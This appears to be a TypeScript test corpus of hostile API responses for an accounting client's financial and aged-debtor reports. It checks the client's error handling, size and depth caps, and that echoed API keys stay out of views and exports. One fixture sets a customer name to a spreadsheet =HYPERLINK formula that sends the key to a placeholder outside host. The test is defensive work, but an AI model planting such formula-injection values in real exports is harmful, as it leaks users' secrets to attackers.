// Issue 35: what the reports' answers may hold. A statement or an aged report of the wrong shape,
// an HTML page, JSON cut short, a line tree nested past any chart of accounts, a number past the
// largest double, a body over the cap: one clear error after one request, nothing thrown past the
// client. One far larger than a report (thousands of lines, of periods, of buckets) is made into a
// table that holds what a table shows. The key echoed in a line's name, an account id, a party, the
// company's info is found nowhere the view shows or exports it. Parameters out of bounds are refused
// before anything is sent.
import { MAX_RESPONSE_BYTES } from '../../../src/api/transportOptions';
import type { AgedKind, AgedReport, FinancialStatement, StatementKind } from '../../../src/api';
import { MAX_REPORT_COLUMNS, MAX_REPORT_ROWS, agedTable, statementTable } from '../../../src/reports';
import { agedDebtors, balanceSheet, line, profitAndLoss } from '../../unit/reports/fixtures';
import { base64 } from '../../support/keyEncodings';
import { DEFAULT_KEY, errorBody, type Expect, type HostileCase, type ReplySpec, type ReportCall } from '../corpus';

const MONTHLY = { periodLength: 1, periodsToCompare: 12 };
const JSON_TYPE = { 'Content-Type': 'application/json' };

const json = (body: unknown): ReplySpec => ({ status: 200, json: body });
const raw = (body: string, type = 'application/json'): ReplySpec => ({
  status: 200,
  headers: { 'Content-Type': type },
  body,
});

const one = (
  what: string,
  call: ReportCall,
  replies: ReplySpec[],
  expect: Expect,
  more: Partial<HostileCase> = {},
) => ({
  id: `reports/${what}`,
  group: 'reports' as const,
  run: { op: 'reports' as const, call },
  replies,
  expect,
  ...more,
});

const statement = (kind: StatementKind = 'profitAndLoss'): ReportCall => ({ call: 'statement', kind, params: MONTHLY });
const aged = (kind: AgedKind = 'agedDebtor'): ReportCall => ({ call: 'aged', kind, params: { numberOfPeriods: 4 } });
const malformed: Expect = { outcome: 'error', kind: 'malformedResponse' };
/** A statement's success: as many records as its table has rows. */
const rowsOf = (kind: StatementKind, body: FinancialStatement): Expect => ({
  outcome: 'success',
  items: statementTable(kind, MONTHLY, body).rows.length,
});
const agedRowsOf = (body: AgedReport): Expect => ({
  outcome: 'success',
  items: agedTable('agedDebtor', {}, body).rows.length,
});

/** A profit and loss whose income nests `depth` lines deep, as text (no object that deep is built). */
const nestedIncome = (depth: number): string =>
  `{"reports":[{"income":${'{"name":"n","value":1,"items":['.repeat(depth - 1)}{"name":"leaf","value":1}${']}'.repeat(depth - 1)}}]}`;

function wide(accounts: number): FinancialStatement {
  const items = [...Array(accounts).keys()].map((i) => line(`Account ${i}`, 1, undefined, `acc-${i}`));
  return {
    currency: 'GBP',
    reports: [{ fromDate: '2026-01-01', toDate: '2026-01-31', income: line('Income', accounts, items) }],
  };
}

/** The last day of the month `i` months before January 2026. */
const monthEnd = (i: number): Date => new Date(Date.UTC(2026, 1 - i, 0));

/** `n` balance sheets, one a month back from January 2026, newest first. */
function manyPeriods(n: number): FinancialStatement {
  return {
    reports: [...Array(n).keys()].map((i) => ({ date: monthEnd(i).toISOString().slice(0, 10), netAssets: i })),
  };
}
const monthOf = (d: Date): string =>
  `${d.toLocaleString('en', { month: 'short', timeZone: 'UTC' })} ${d.getUTCFullYear()}`;

function echoed(k: string): FinancialStatement {
  const report = profitAndLoss();
  report.reportBasis = `Accrual ${k}`;
  report.reports[0].income = line(`Income ${k}`, 1200, [line(`Sales <b>${k}</b>`, 1200, undefined, k)]);
  report.reports[1].expenses = line('Expenses', 400, [line(`Basic ${base64(k)}`, 400)]);
  return report;
}

function agedEchoed(k: string): AgedReport {
  const report = agedDebtors();
  const first = report.data?.[0];
  if (first) {
    first.customerName = `=HYPERLINK("{{other}}?k=${k}")`;
    first.customerId = k;
    const bucket = first.agedCurrencyOutstanding?.[0].agedOutstandingAmounts?.[0];
    if (bucket)
      bucket.details = [
        { name: `Invoices ${k}`, amount: 110 },
        { name: 'CreditNotes', amount: -10 },
      ];
  }
  return report;
}

const statements = (): HostileCase[] => [
  one(
    'a profit and loss made into its table, CSV and chart',
    statement(),
    [json(profitAndLoss())],
    rowsOf('profitAndLoss', profitAndLoss()),
  ),
  one(
    'a balance sheet made into its table',
    statement('balanceSheet'),
    [json(balanceSheet())],
    rowsOf('balanceSheet', balanceSheet()),
  ),
  one(
    'a statement of nulls and empty periods',
    statement(),
    [json({ reports: [{}, { income: null, netProfit: null }], currency: null })],
    {
      outcome: 'success',
      items: 0,
    },
  ),
  one(
    'an HTML sign-in page on a 200',
    statement(),
    [raw('<!DOCTYPE html><html><body>Sign in</body></html>', 'text/html')],
    malformed,
  ),
  one('JSON cut short', statement(), [raw('{"reports":[{"income":{"value":1,')], malformed),
  one('reports not a list', statement('cashFlowStatement'), [json({ reports: { income: 1 } })], malformed),
  one('a figure as text', statement(), [json({ reports: [{ netProfit: '12.00' }] })], malformed),
  one(
    'a line whose items are not a list',
    statement(),
    [json({ reports: [{ income: { value: 1, items: 'x' } }] })],
    malformed,
  ),
  one('a value past the largest double (1e309)', statement(), [raw('{"reports":[{"netProfit":1e309}]}')], malformed),
  one('a line tree 64 deep, the deepest taken', statement(), [raw(nestedIncome(64))], {
    outcome: 'success',
    items: 64 * 2 - 1,
  }),
  one('a line tree 65 deep', statement(), [raw(nestedIncome(65))], malformed),
  one('a line tree 100,000 deep', statement(), [raw(nestedIncome(100_000))], malformed),
  one(
    'an answer over the cap',
    statement(),
    [
      {
        status: 200,
        headers: JSON_TYPE,
        stream: { bytes: MAX_RESPONSE_BYTES + 1, prefix: '{"reports":[],"pad":"', suffix: '"}', fill: 'a' },
      },
    ],
    malformed,
  ),
  one(
    `${MAX_REPORT_ROWS + 5000} accounts in one section: the table holds ${MAX_REPORT_ROWS}`,
    statement(),
    [json(wide(MAX_REPORT_ROWS + 5000))],
    {
      outcome: 'success',
      items: MAX_REPORT_ROWS + 2,
      contains: ['Total Income,0,total,25000'],
    },
  ),
  one(
    `5,000 periods: the table holds the newest ${MAX_REPORT_COLUMNS}`,
    statement('balanceSheet'),
    [json(manyPeriods(5000))],
    {
      outcome: 'success',
      items: 1,
      contains: [
        `Line,Depth,Role,${monthOf(monthEnd(MAX_REPORT_COLUMNS - 1))},`,
        `,${monthOf(monthEnd(0))},Should be\r\nNet assets,0,total,${MAX_REPORT_COLUMNS - 1},`,
      ],
    },
  ),
  one(
    'the key in line names, an account id and the basis',
    statement(),
    [json(echoed(DEFAULT_KEY))],
    rowsOf('profitAndLoss', echoed('k')),
  ),
  one(
    'a 429, then the statement',
    statement(),
    [
      { status: 429, headers: { 'Retry-After': '1' }, json: errorBody(429, 'Too many requests') },
      json(profitAndLoss()),
    ],
    { ...rowsOf('profitAndLoss', profitAndLoss()), requests: 2 },
  ),
  one(
    'a period length out of bounds, refused before sending',
    { call: 'statement', kind: 'profitAndLoss', params: { periodLength: 13, periodsToCompare: 1 } },
    [],
    {
      outcome: 'refused',
      kind: 'invalidParameter',
    },
  ),
  one(
    'a start month that is no day',
    { call: 'statement', kind: 'balanceSheet', params: { ...MONTHLY, startMonth: '2026-02-30' } },
    [],
    {
      outcome: 'refused',
      kind: 'invalidParameter',
    },
  ),
];

const agedReports = (): HostileCase[] => [
  one('aged debtors made into their table', aged(), [json(agedDebtors())], agedRowsOf(agedDebtors())),
  one(
    'aged debtors of nulls',
    aged(),
    [json({ data: [null, { agedCurrencyOutstanding: null }], reportDate: null })],
    malformed,
  ),
  one('aged debtors with no data', aged(), [json({ reportDate: '2026-01-31', data: null })], {
    outcome: 'success',
    items: 0,
  }),
  one(
    'an aged amount as text',
    aged(),
    [json({ data: [{ agedCurrencyOutstanding: [{ agedOutstandingAmounts: [{ amount: '5' }] }] }] })],
    malformed,
  ),
  one('the key in a party, its id and a detail', aged(), [json(agedEchoed(DEFAULT_KEY))], agedRowsOf(agedEchoed('k'))),
  one(
    '5,000 buckets of one customer',
    aged(),
    [
      json({
        data: [
          {
            customerId: 'c',
            agedCurrencyOutstanding: [
              {
                currency: 'GBP',
                agedOutstandingAmounts: [...Array(5000).keys()].map((i) => ({
                  toDate: `${9000 - i}-01-01`,
                  amount: 1,
                })),
              },
            ],
          },
        ],
      }),
    ],
    {
      outcome: 'success',
      items: 3,
      contains: [`Total GBP,0,total,${Array(MAX_REPORT_COLUMNS).fill(1).join(',')},${MAX_REPORT_COLUMNS},`],
    },
  ),
  one(
    'aged creditors the platform cannot make',
    aged('agedCreditor'),
    [{ status: 404, json: errorBody(404, 'Datatype [agedCreditor] not supported by platform(s) [FreshBooks]') }],
    { outcome: 'error', kind: 'datatypeNotSupported' },
  ),
  one(
    'a gateway page every time',
    aged(),
    [{ status: 502, headers: { 'Content-Type': 'text/html' }, body: `<html>${DEFAULT_KEY}</html>` }],
    {
      outcome: 'error',
      kind: 'server',
      requests: 4,
    },
    { repeatLast: true },
  ),
  one('a report date that is no date', { call: 'aged', kind: 'agedDebtor', params: { reportDate: '31/01/2026' } }, [], {
    outcome: 'refused',
    kind: 'invalidParameter',
  }),
  one('available: true', { call: 'available', kind: 'agedDebtor' }, [raw('true')], { outcome: 'success', items: 1 }),
  one('available as text', { call: 'available', kind: 'agedCreditor' }, [json('true')], malformed),
  one('available: null', { call: 'available', kind: 'agedCreditor' }, [raw('null')], malformed),
];

const info = (): HostileCase[] => [
  one(
    "the company's info with the key in its name",
    { call: 'info' },
    [
      json({
        companyName: `Acme ${DEFAULT_KEY}`,
        companyLegalName: `Basic ${base64(DEFAULT_KEY)}`,
        addresses: [{ type: 'Billing', line1: DEFAULT_KEY }],
      }),
    ],
    { outcome: 'success', items: 1 },
  ),
  one("the company's info as a list", { call: 'info' }, [json([{ companyName: 'Acme' }])], malformed),
  one(
    "the company's info with a name of the wrong type",
    { call: 'info' },
    [json({ companyName: { first: 'Acme' } })],
    malformed,
  ),
];

export const reportsCorpus = (): HostileCase[] => [...statements(), ...agedReports(), ...info()];
